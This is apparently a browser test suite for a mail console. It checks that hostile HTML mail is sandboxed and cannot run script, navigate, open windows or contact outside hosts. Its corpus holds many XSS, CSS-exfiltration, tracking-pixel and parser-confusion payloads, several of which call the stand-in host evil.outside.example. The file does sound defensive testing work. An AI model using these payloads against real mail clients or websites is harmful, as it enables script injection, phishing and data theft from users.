// Mail of strangers in the browser: no request but to the server, no script, no dialog, no navigation.

import { BASE, check, deliver, eventually, isOwn, open, run, world } from "./lib.mjs";

const INBOX = `/console/inboxes/${encodeURIComponent(world.inbox)}`;
const EVIL = "http://evil.outside.example";

// Larger than the HTML that is shown.
const TABLES = `<table>${"<tr><td>cell<td><b>x</b>".repeat(84_000)}</table>`;
const NESTED = `${"<div><table><tr><td>".repeat(5_000)}deep`;

/** Bodies by name. Each ends with words that must be shown, unless the name says otherwise. */
const CORPUS = {
  script: `<script>document.title="owned";fetch("${EVIL}/script");parent.postMessage("x","*")</script><script src="${EVIL}/x.js"></script>`,
  handlers: `<img src=x onerror="fetch('${EVIL}/onerror')"><body onload="fetch('${EVIL}/onload')"><div onmouseover=alert(1)>m</div><details open ontoggle=alert(1)>t</details>`,
  javascript_links: `<a id=l href="javascript:alert(1)">js</a><a href="JaVa&#x09;ScRiPt:alert(1)">tab</a><a href="data:text/html,<script>alert(1)</script>">data</a><a href="vbscript:x">vb</a>`,
  meta_refresh: `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
  base: `<base href="${EVIL}/base/"><img src="relative.png"><a href="relative">link</a>`,
  forms: `<form action="${EVIL}/form" method=post><input name=password autofocus><button id=b>Sign in</button></form><input form=x formaction="${EVIL}"><button formaction="${EVIL}/f2">x</button>`,
  own_forms: `<form action="${BASE}/console/sign-out" method=post><button>Free</button></form><form action="/console/api-keys" method=post><input name=name value=x></form>`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><frameset><frame src="${EVIL}/f"></frameset><portal src="${EVIL}"></portal>`,
  svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="${EVIL}/svg.png"/><use href="${EVIL}/u.svg#a"/><foreignObject><iframe src="${EVIL}/fo"></iframe></foreignObject><a xlink:href="javascript:alert(1)"><text>x</text></a><animate onbegin=alert(1) attributeName=x dur=1s /></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>`,
  css: `<style>@import url("${EVIL}/import.css"); @font-face{font-family:e;src:url("${EVIL}/font.woff")} body{background:url("${EVIL}/bg.png");font-family:e} input[value^="a"]{background:url("${EVIL}/a")}</style><link rel=stylesheet href="${EVIL}/link.css"><link rel=prefetch href="${EVIL}/prefetch"><link rel=dns-prefetch href="${EVIL}"><link rel=preconnect href="${EVIL}"><div style="background:url('${EVIL}/inline.png')">b</div><div style="background-image:image-set('${EVIL}/set.png' 1x)">c</div>`,
  overlay: `<div style="position:fixed;inset:0;z-index:99999;background:#fff">overlay</div><style>html,body{position:fixed;top:-5000px;width:10000px;height:100000px} :root{--bg:red}</style>`,
  pixels: `<img src="${EVIL}/pixel.gif?id=1" width=1 height=1><img srcset="${EVIL}/s.png 1x"><picture><source srcset="${EVIL}/p.png"><img></picture><video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio><bgsound src="${EVIL}/b"><table background="${EVIL}/t.png"><tr><td background="${EVIL}/td.png">x</table><input type=image src="${EVIL}/i.png"><a ping="${EVIL}/ping" href="${EVIL}/a">a</a>`,
  broken: `<<script>alert(1)//<</script><img src="x\` \`<script>alert(1)</script>"\` \`><!--><img src=x onerror=alert(1)>--><title><img src=x onerror=alert(1)></title><noscript><p title="</noscript><img src=x onerror=alert(1)>"><template><script>alert(1)</script></template><textarea><script>alert(1)</script>`,
  names: `<img name=cookie><form id=getElementById></form><a id=location href=x></a><div id=content></div><input name=csrf_token>`,
  escape: `</iframe></body></html><script>top.location="${EVIL}/escape"</script><a target=_top href="${EVIL}/top" id=t>top</a>`,
  entities: `&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;txt.exe <bdo dir=rtl>oediv</bdo>`,
  tables: TABLES,
  nested: NESTED,
};

/** Opens the thread with a subject and waits until its HTML is shown; returns the frame. */
async function openThread(page, subject) {
  await page.goto(`${INBOX}?q=${encodeURIComponent(subject)}`);
  await page.getByRole("link", { name: subject, exact: true }).first().click();
  await page.waitForURL(/threads\//);
  const element = page.locator("iframe[sandbox]").first();
  if (!(await element.count())) return null;
  await element.scrollIntoViewIfNeeded();
  const frame = await (await element.elementHandle()).contentFrame();
  await frame.waitForLoadState("load");
  return frame;
}

await run({
  async corpus(browser) {
    for (const [name, html] of Object.entries(CORPUS)) {
      await deliver({ subject: `hostile ${name}`, html: `<p>before</p>${html}<p>after ${name}</p>` });
    }
    const { context, page, requests } = await open(browser, "owner", { isWatched: false });
    context.on("page", () => check(false, "mail opens a window"));
    for (const name of Object.keys(CORPUS)) {
      requests.length = 0;
      const frame = await openThread(page, `hostile ${name}`);
      const url = page.url();
      const title = await page.title();
      await page.waitForTimeout(300);
      const foreign = requests.filter((request) => !isOwn(request));
      check(foreign.length === 0, `${name}: the browser asks for ${foreign}`);
      check(page.url() === url && (await page.title()) === title, `${name}: leads to ${page.url()} "${await page.title()}"`);
      check(frame, `${name}: no frame`);
      if (!frame) continue;
      const handle = await frame.frameElement();
      const sandbox = await handle.getAttribute("sandbox");
      check(!/allow-(scripts|same-origin|forms|top-navigation|modals)/.test(sandbox), `${name}: sandbox="${sandbox}"`);
      const box = await handle.boundingBox();
      check(box && box.height >= 120, `${name}: the frame is ${box?.height} px high`);
      const size = page.viewportSize();
      check(box.x >= 0 && box.x + box.width <= size.width, `${name}: the frame leaves the page`);
      const text = await frame.evaluate(() => document.body?.innerText ?? "");
      check(text.includes("before"), `${name}: the mail shows "${text.slice(0, 100)}"`);
      const left = await frame.evaluate(() => [...document.querySelectorAll(
        "script, iframe, object, embed, form, base, meta[http-equiv=refresh], link, svg, [onload], [onerror]")].map((each) => each.outerHTML.slice(0, 80)));
      check(left.length === 0, `${name}: left in the mail: ${left}`);
      const schemes = await frame.evaluate(() => [...document.querySelectorAll("a[href]")].map((each) => each.protocol));
      check(schemes.every((scheme) => ["http:", "https:", "mailto:"].includes(scheme)), `${name}: links of ${schemes}`);
      const controls = await page.getByRole("link", { name: "Reply", exact: true }).first().isVisible();
      check(controls, `${name}: the controls are covered`);
      await page.getByRole("link", { name: "Reply", exact: true }).first().click({ trial: true });
      check(frame.url().startsWith(`${BASE}/console/`), `${name}: the frame shows ${frame.url()}`);
    }
    // The document alone is as harmless as in its frame.
    for (const name of ["script", "css", "svg", "meta_refresh", "pixels"]) {
      const frame = await openThread(page, `hostile ${name}`);
      requests.length = 0;
      const answer = await page.goto(frame.url());
      const headers = answer.headers();
      check(headers["content-security-policy"].startsWith("sandbox "), `${name}: ${headers["content-security-policy"]}`);
      check(!/allow-(scripts|same-origin)/.test(headers["content-security-policy"]), `${name}: ${headers["content-security-policy"]}`);
      check(headers["x-content-type-options"] === "nosniff" && headers["referrer-policy"] === "no-referrer", `${name}: headers`);
      await page.waitForTimeout(300);
      const foreign = requests.filter((request) => !isOwn(request));
      check(foreign.length === 0, `${name}, alone: the browser asks for ${foreign}`);
      check((await page.evaluate(() => { try { return document.cookie; } catch { return ""; } })) === "", `${name}: reads cookies`);
    }
    await context.close();
  },

  async remote_images(browser) {
    const remote = "https://images.outside.example/pixel.png";
    const { context, page, requests } = await open(browser, "owner", { isWatched: false });
    await context.route("https://images.outside.example/**", (route) => route.fulfill({ status: 404, body: "" }));
    await openThread(page, "Autumn news");
    await page.waitForTimeout(300);
    check(!requests.some((request) => !isOwn(request)), `before the click: ${requests.filter((each) => !isOwn(each))}`);
    await page.getByRole("link", { name: /Show images/ }).first().click();
    await eventually("the image is asked for", () => requests.includes(remote));
    const foreign = new Set(requests.filter((request) => !isOwn(request)));
    check(foreign.size === 1, `after the click: ${[...foreign]}`);
    // The next view is without them again.
    requests.length = 0;
    await openThread(page, "Autumn news");
    await page.waitForTimeout(300);
    check(!requests.some((request) => !isOwn(request)), "the choice lasts longer than its view");
    await context.close();
  },

  async links_open_elsewhere(browser) {
    const { context, page } = await open(browser, "owner", { isWatched: false });
    await context.route("https://shop.outside.example/**", (route) => route.fulfill({ status: 200, contentType: "text/html", body: "<p>shop" }));
    const frame = await openThread(page, "Autumn news");
    const link = frame.locator("a", { hasText: "To the sale" });
    const attributes = await link.evaluate((each) => [each.target, each.rel, each.href]);
    check(attributes[0] === "_blank" && /noopener/.test(attributes[1]) && /noreferrer/.test(attributes[1]), `${attributes}`);
    const [popup] = await Promise.all([context.waitForEvent("page"), link.click()]);
    await popup.waitForLoadState();
    check((await popup.evaluate(() => [String(globalThis.opener), document.referrer].join())) === "null,", "the site knows its opener");
    await context.close();
  },

  async names_of_strangers(browser) {
    await deliver({ subject: '"><img src=x onerror=alert(1)> \u202egpj.exe', text: "<script>alert(1)</script> {{7*7}} ${7*7}" });
    const { context, page } = await open(browser, "owner");
    await page.goto(INBOX);
    const text = await page.content();
    check(!/[\u202a-\u202e\u2066-\u2069]/.test(text), "the list shows bidi controls");
    await page.getByRole("link", { name: /onerror=alert/ }).first().click();
    await page.waitForURL(/threads\//);
    check(!/[\u202a-\u202e\u2066-\u2069]/.test(await page.content()), "the thread shows bidi controls");
    check((await page.locator("main").innerText()).includes("<script>alert(1)</script> {{7*7}}"), "the text is changed");
    await context.close();
  },
});
